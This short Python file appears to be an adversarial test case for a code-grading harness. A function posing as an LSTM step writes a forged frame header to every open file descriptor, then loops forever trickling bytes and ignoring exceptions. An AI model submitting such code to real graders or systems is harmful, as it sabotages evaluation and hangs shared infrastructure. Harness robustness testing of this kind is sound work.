# /// attack
# what = "writes a frame slowly, so that something always arrives"
# statuses = {lstm_step = ["timeout", "refused", "crashed"]}
# ///
# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import os, struct, time
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<II", 1000000, 0))
        except OSError:
            continue
    while True:
        try:
            for descriptor in range(3, 256):
                try:
                    os.write(descriptor, b" ")
                except OSError:
                    pass
            time.sleep(0.05)
        except BaseException:
            pass
